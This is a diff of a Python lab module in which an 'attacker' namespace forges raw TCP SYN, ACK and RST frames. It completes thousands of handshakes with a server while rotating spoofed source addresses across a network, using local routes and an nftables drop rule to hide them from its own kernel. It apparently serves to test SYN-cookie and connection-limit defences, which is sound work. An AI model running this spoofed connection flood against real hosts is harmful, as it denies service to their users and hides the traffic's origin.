@@ -1,6 +1,9 @@
 """Handshakes in bulk by an attacker who has his address: each with the cookie that he was sent."""
 
+import collections
 import contextlib
+import dataclasses
+import ipaddress
 import socket
 import struct
 import threading
@@ -9,26 +12,39 @@ import time
 from wire_lab.forgery import ACK, RST, SYN, checksum_of, word_sum
 
 ISN = 1000
-SOURCE = "198.18.7.7"  # of another /24 than the hosts of the lab
-COUNT, SECONDS = 17_500, 1.2  # or as long as a busy core makes it
+SOURCE = "198.18.7.7/32"  # of another /24 than the hosts of the lab
+COUNT = 17_500
 FIRST_PORT = 1024
 ETHERNET, IP, TCP = 14, 20, 20
 ETHERTYPE_IPV4 = 0x0800
 # SYNs that may be unanswered at the same time: a receive ring holds them.
 BATCH = 64
 ANSWER_TIMEOUT_S = 0.2
+KEPT = 1024  # of the handshakes that are done
+
+
+@dataclasses.dataclass(frozen=True)
+class Pace:
+    """So many in so many seconds, or as long as a busy core makes it."""
+
+    count: int = COUNT
+    seconds: float = 1.2
 
 
 class Handshakes:
-    """`with Handshakes(lab, address, aborts=True) as attack`: a thread opens COUNT connections from
-    SOURCE to (host, port), each from a port of its own. `aborts`: a RST follows each ACK."""
+    """`with Handshakes(lab, address, aborts=True) as attack`: a thread opens connections to
+    (host, port) from the addresses of the network `sources` in turn, each from a port of its own.
+    `aborts`: a RST follows each ACK. It ends with the block, or by itself."""
 
-    def __init__(self, lab, address, aborts):
-        self._frames = _Frames(lab.attacker.mac(), lab.server.mac(), address)
+    def __init__(self, lab, address, aborts, sources=SOURCE, pace=Pace()):
+        self._frames = Frames(lab, sources, address)
         self._aborts = aborts
-        self._packets = _packets_of(lab.attacker)
+        self._pace = pace
+        self._packets = own_packets(lab.attacker, sources)
+        self._over = threading.Event()
         self._thread = threading.Thread(target=self._run)
         self.opened = 0
+        self.last = collections.deque(maxlen=KEPT)  # (source, port, ISN of the SYN-ACK)
         self.seconds = 0.0
 
     def __enter__(self):
@@ -36,28 +52,35 @@ class Handshakes:
         return self
 
     def __exit__(self, *_):
+        self._over.set()
         self._thread.join()
         self._packets.close()
 
     def running(self):
         return self._thread.is_alive()
 
+    def wait(self):
+        self._thread.join()
+
     def __str__(self):
-        return (f"{self.opened} of {COUNT} handshakes in {self.seconds:.1f} s, "
+        return (f"{self.opened} of {self._pace.count} handshakes in {self.seconds:.1f} s, "
                 f"{self.opened / max(self.seconds, 0.001):.0f} per second")
 
     def _run(self):
         started = time.monotonic()
-        for first in range(0, COUNT, BATCH):
-            time.sleep(max(0, started + SECONDS * first / COUNT - time.monotonic()))
-            self._open(range(FIRST_PORT + first, FIRST_PORT + min(first + BATCH, COUNT)))
+        for first in range(0, self._pace.count, BATCH):
+            due = started + self._pace.seconds * first / self._pace.count
+            if self._over.wait(max(0, due - time.monotonic())):
+                return
+            self._open(range(first, min(first + BATCH, self._pace.count)))
             self.seconds = time.monotonic() - started
 
-    def _open(self, ports):
-        for port in ports:
-            self._packets.send(self._frames.make(SYN, port, ISN))
+    def _open(self, numbers):
+        for number in numbers:
+            source, port = self._frames.endpoint(number)
+            self._packets.send(self._frames.make(SYN, (source, port), ISN))
         with contextlib.suppress(TimeoutError):
-            for _ in ports:
+            for _ in numbers:
                 self._answer()
 
     def _answer(self):
@@ -65,21 +88,27 @@ class Handshakes:
         syn_ack = self._frames.parse(self._packets.recv(2048))
         while not syn_ack:
             syn_ack = self._frames.parse(self._packets.recv(2048))
-        port, isn = syn_ack
-        self._packets.send(self._frames.make(ACK, port, ISN + 1, isn + 1))
+        source, port, isn = syn_ack
+        self._packets.send(self._frames.make(ACK, (source, port), ISN + 1, isn + 1))
         if self._aborts:
-            self._packets.send(self._frames.make(RST, port, ISN + 1))
+            self._packets.send(self._frames.make(RST, (source, port), ISN + 1))
         self.opened += 1
+        self.last.append(syn_ack)
 
 
-def _packets_of(space):
-    """A socket that gets what is for SOURCE. The kernel answers ARP in its name and nothing else:
-    it would reset connections that it does not know."""
-    space.run("ip", "address", "add", f"{SOURCE}/32", "dev", "eth0")
+def take_addresses(space, network):
+    """The host answers for all addresses of the network, without having each of them."""
+    space.run("ip", "route", "replace", "local", network, "dev", "lo")
+
+
+def own_packets(space, network):
+    """A socket that gets what is for the network. The kernel answers ARP in its name and nothing
+    else: it would reset connections that it does not know."""
+    take_addresses(space, network)
     space.run("nft", f"""table ip handshakes {{
         chain unknown {{
             type filter hook input priority 0;
-            ip daddr {SOURCE} drop
+            ip daddr {network} drop
         }}
     }}""")
     packets = space.socket(socket.AF_PACKET, socket.SOCK_RAW)
@@ -88,11 +117,37 @@ def _packets_of(space):
     return packets
 
 
-class _Frames:
-    """Segments without options: of a frame only ports, numbers and checksums change."""
+class Frames:
+    """Segments without options from the addresses of a network to `address`, (host, port)."""
 
-    def __init__(self, own_mac, next_hop, address):
-        addresses = socket.inet_aton(SOURCE) + socket.inet_aton(address[0])
+    def __init__(self, lab, network, address):
+        macs = lab.attacker.mac(), lab.server.mac()
+        self._sources = [host.packed for host in ipaddress.ip_network(network)]
+        self._of = {source: _Template(macs, source, address) for source in self._sources}
+
+    def endpoint(self, number):
+        """(source, port); another one for each number."""
+        turn, index = divmod(number, len(self._sources))
+        return self._sources[index], FIRST_PORT + turn % (2**16 - FIRST_PORT)
+
+    def make(self, flags, endpoint, seq, ack=0):
+        source, port = endpoint
+        return self._of[source].make(flags, port, seq, ack)
+
+    def parse(self, frame):
+        """(source, port, ISN) of a SYN-ACK for us."""
+        source = frame[ETHERNET + IP - 4:ETHERNET + IP]
+        template = self._of.get(source)
+        answer = template and template.parse(frame)
+        return answer and (source, *answer)
+
+
+class _Template:
+    """Of a frame only ports, numbers and checksums change."""
+
+    def __init__(self, macs, source, address):
+        addresses = source + socket.inet_aton(address[0])
+        own_mac, next_hop = macs
         self._port = address[1]
         self._incoming = addresses[4:] + addresses[:4] + struct.pack("!H", address[1])
         header = struct.pack("!BBHHHBBH", 0x45, 0, IP + TCP, 0, 0x4000, 64, socket.IPPROTO_TCP, 0)
